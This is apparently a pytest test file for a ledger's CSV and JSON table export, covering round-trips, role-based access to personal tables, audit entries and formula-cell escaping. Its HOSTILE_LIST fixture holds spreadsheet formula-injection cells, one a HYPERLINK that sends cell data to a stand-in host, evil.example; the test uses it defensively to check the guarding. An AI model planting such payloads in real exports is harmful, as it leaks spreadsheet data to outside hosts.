"""Every ledger table out as CSV and JSON, on SQLite and PostgreSQL, from the seed reports.

Each table's CSV, read back with ``csv.DictReader``, must hold what its JSON holds, and the
JSON what the database holds; a viewer must never get a personal table or a personal claim;
the raw bytes of a source must appear nowhere; every export must leave one audit entry.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import JSON, select

from polon.interchange import tables
from polon.interchange.tables import (
    PERSONAL,
    TABLES,
    TableRefused,
    UnknownTable,
    export_table,
    export_tables,
    exportable,
)
from polon.ledger import Ledger
from polon.ledger.db import transaction
from polon.ledger.models import AuditEntry, Claim, DiscrepancyClaim, Source
from polon.registry.registry import Registry
from tests.conftest import FIXTURES, KI_SEED, NV_SEED
from tests.ledger.helpers import ingest_text

FORMULAS = ("=", "+", "-", "@")
# A list whose cells a spreadsheet would run as formulas, were they written as they are.
HOSTILE_LIST = (
    "Surname,Given name,Rank,Unit,Call sign\n"
    'Bondar,Ivan,+1,"=HYPERLINK(""http://evil.example/?""&A1,""x"")",@SUM(A1:A9)\n'
    "Melnyk,Petro,-2,=1+2,\n"
)
RAW_ONLY = ("<!DOCTYPE html>", "bus.jpg", "og:site_name")  # in the page's bytes, not its text


@pytest.fixture
def built(ledger: Ledger) -> Ledger:
    """Both seeds accepted, an HTML page, reports that disagree (a figure and an exchange
    discrepancy), a person list and a hostile one: every table has rows, and some rows come
    from sources a viewer may not see."""
    reports = ("held_low.txt", "held_high.txt", "swap_other_total.txt", "swap_page.html")
    for path in (NV_SEED, KI_SEED, *(FIXTURES / name for name in reports)):
        ingest_text(ledger, path)
    registry = Registry(ledger)
    registry.import_list(FIXTURES / "lists" / "en_comma.csv", "tester")
    registry.import_bytes(HOSTILE_LIST.encode(), "hostile.csv", "tester")
    return ledger


def _export(ledger: Ledger, table: str, fmt: str, role: str = "admin") -> str:
    with transaction(ledger._sessions) as session:
        return export_table(session, table, fmt, role=role, actor="exporter")


def _text(value: Any) -> str:
    """How a JSON value reads in a CSV cell of a column that is not JSON-valued."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    return str(value)


def _unguard(cell: str) -> str:
    return cell[1:] if len(cell) > 1 and cell[0] == "'" and cell[1] in FORMULAS else cell


def _database(ledger: Ledger, table: str) -> Iterator[dict[str, Any]]:
    """The table's rows read straight from the database (ORM table, not the export's query)."""
    model = TABLES[table].model
    with ledger._sessions() as session:
        for row in session.execute(select(model.__table__).order_by(model.id)).mappings():
            yield {
                key: value.isoformat() if isinstance(value, dt.date | dt.datetime) else value
                for key, value in row.items()
            }


def test_every_table_round_trips_through_csv_and_json(built: Ledger):
    with built._sessions() as session:
        texts = {c.id: c.evidence for c in session.scalars(select(Claim))}
        linked: dict[int, list[int]] = {}
        for d_id, c_id in session.execute(
            select(DiscrepancyClaim.discrepancy_id, DiscrepancyClaim.claim_id).order_by(
                DiscrepancyClaim.claim_id
            )
        ):
            linked.setdefault(d_id, []).append(c_id)
    for table, spec in TABLES.items():
        stored = list(_database(built, table))
        as_json = json.loads(_export(built, table, "json"))
        assert as_json, f"{table} has no rows to check"
        assert [r["id"] for r in as_json] == [r["id"] for r in stored], table
        for row, db_row in zip(as_json, stored, strict=True):
            own = {k: v for k, v in db_row.items() if k not in spec.omit}
            assert {k: row[k] for k in own} == own, (table, row["id"])
        if table == "claims":
            assert [r["evidence"] for r in as_json] == [texts[r["id"]] for r in as_json]
        if table == "discrepancies":
            assert [r["claim_ids"] for r in as_json] == [linked[r["id"]] for r in as_json]
        read = list(csv.DictReader(io.StringIO(_export(built, table, "csv"), newline="")))
        if table == "audit_log":  # the JSON export's own entry came after it
            assert len(read) == len(as_json) + 1
            read = read[:-1]
        assert [int(r["id"]) for r in read] == [r["id"] for r in as_json], table
        for cells, row in zip(read, as_json, strict=True):
            assert list(cells) == list(row) == spec.columns, table
            for name, cell in cells.items():
                cell = _unguard(cell)
                if name in spec.json_columns:
                    assert (json.loads(cell) if cell else None) == row[name], (table, name)
                else:
                    assert cell == _text(row[name]), (table, name, row["id"])


def test_columns_are_the_models_in_order_and_raw_bytes_never_leave(built: Ledger):
    for spec in TABLES.values():
        model_columns = [c.name for c in spec.model.__table__.columns]
        assert spec.columns[: len(model_columns) - len(spec.omit)] == [
            name for name in model_columns if name not in spec.omit
        ]
        json_typed = {c.name for c in spec.model.__table__.columns if isinstance(c.type, JSON)}
        assert json_typed <= spec.json_columns
    assert TABLES["sources"].omit == ("raw",)
    with built._sessions() as session:
        raw = session.scalar(select(Source.raw).where(Source.media_type == "text/html"))
    assert raw is not None and all(snippet.encode() in raw for snippet in RAW_ONLY)
    for table in TABLES:
        for fmt in tables.FORMATS:
            text = _export(built, table, fmt)
            assert not any(snippet in text for snippet in RAW_ONLY), (table, fmt)
    assert "raw" not in _export(built, "sources", "csv").splitlines()[0].split(",")


def test_formula_cells_are_guarded_in_csv_and_kept_in_json(built: Ledger):
    guarded = 0
    for table in exportable("admin"):
        for cells in csv.reader(io.StringIO(_export(built, table, "csv"), newline="")):
            assert not [c for c in cells if c.startswith(FORMULAS)], table
            guarded += sum(c.startswith(("'=", "'+", "'-", "'@")) for c in cells)
    assert guarded >= 4
    facts = _export(built, "person_facts", "csv")
    assert "'=1+2" in facts and "'+1" in facts and "'@SUM(A1:A9)" in facts
    values = {r["value"] for r in json.loads(_export(built, "person_facts", "json"))}
    assert {"=1+2", "+1", "-2", "@SUM(A1:A9)"} <= values


def test_a_viewer_gets_no_personal_table_and_only_published_rows(built: Ledger):
    assert set(exportable("viewer")).isdisjoint(PERSONAL | {"audit_log"})
    assert "audit_log" not in exportable("analyst") and "audit_log" in exportable("admin")
    assert set(exportable("editor")) == set(TABLES) - {"audit_log"}
    for table in [*PERSONAL, "audit_log"]:
        with pytest.raises(TableRefused, match="viewer role may not export"):
            _export(built, table, "csv", role="viewer")
    with pytest.raises(TableRefused):
        _export(built, "audit_log", "json", role="analyst")

    sources = json.loads(_export(built, "sources", "json", role="viewer"))
    assert {s["kind"] for s in sources} == {"article"}
    claims = json.loads(_export(built, "claims", "json", role="viewer"))
    published = {s["id"] for s in sources}
    assert claims and {c["source_id"] for c in claims} <= published
    assert not [c for c in claims if c["kind"] in ("person", "note")]
    assert "Shevchuk" not in _export(built, "claims", "csv", role="viewer")
    links = json.loads(_export(built, "claim_links", "json", role="viewer"))
    assert links and not [link for link in links if link["entity_type"] in PERSONAL]

    def names(role: str) -> set[str]:
        return {o["name"] for o in json.loads(_export(built, "organizations", "json", role=role))}

    assert "36th Brigade" in names("analyst")  # a unit only a person list named
    assert "36th Brigade" not in names("viewer")
    assert names("viewer") and names("viewer") < names("analyst")
    viewer_figures = json.loads(_export(built, "figures", "json", role="viewer"))
    assert viewer_figures == json.loads(_export(built, "figures", "json", role="analyst"))


def test_every_export_is_audited_with_counts_and_never_the_data(built: Ledger, tmp_path: Path):
    text = _export(built, "figures", "csv", role="viewer")
    with transaction(built._sessions) as session:
        paths = export_tables(session, tmp_path / "out", "json", role="viewer", actor="exporter")
    assert [p.name for p in paths] == [f"{name}.json" for name in exportable("viewer")]
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == sorted(p.name for p in paths)
    with built._sessions() as session:
        entries = list(
            session.scalars(
                select(AuditEntry).where(AuditEntry.action == "export").order_by(AuditEntry.id)
            )
        )
    single, every = entries
    assert single.entity_type == "tables" and single.entity_id is None
    assert single.after == {"format": "csv", "role": "viewer",
                            "tables": {"figures": len(text.splitlines()) - 1}}  # fmt: skip
    assert every.after["format"] == "json" and every.after["role"] == "viewer"
    counts = {p.stem: len(json.loads(p.read_text(encoding="utf-8"))) for p in paths}
    assert every.after["tables"] == counts
    assert "Mariupol" not in json.dumps([single.after, every.after])


def test_unknown_tables_and_formats_are_refused_before_anything_is_read(
    built: Ledger, tmp_path: Path
):
    with pytest.raises(UnknownTable, match="the tables are: sources, claims"):
        _export(built, "users", "csv")
    with pytest.raises(tables.TableError, match="csv or json"):
        _export(built, "figures", "pfif")
    with transaction(built._sessions) as session, pytest.raises(TableRefused):
        export_tables(session, tmp_path / "never", "csv", ["figures", "persons"],
                      role="viewer", actor="exporter")  # fmt: skip
    assert not (tmp_path / "never").exists()


def test_windows_give_the_same_export_as_one_read(built: Ledger, monkeypatch: pytest.MonkeyPatch):
    whole = {t: _export(built, t, "json") for t in ("claims", "discrepancies", "figures")}
    assert len(json.loads(whole["discrepancies"])) >= 2  # each window completes its own rows
    monkeypatch.setattr(tables, "BATCH", 1)
    assert {t: _export(built, t, "json") for t in whole} == whole
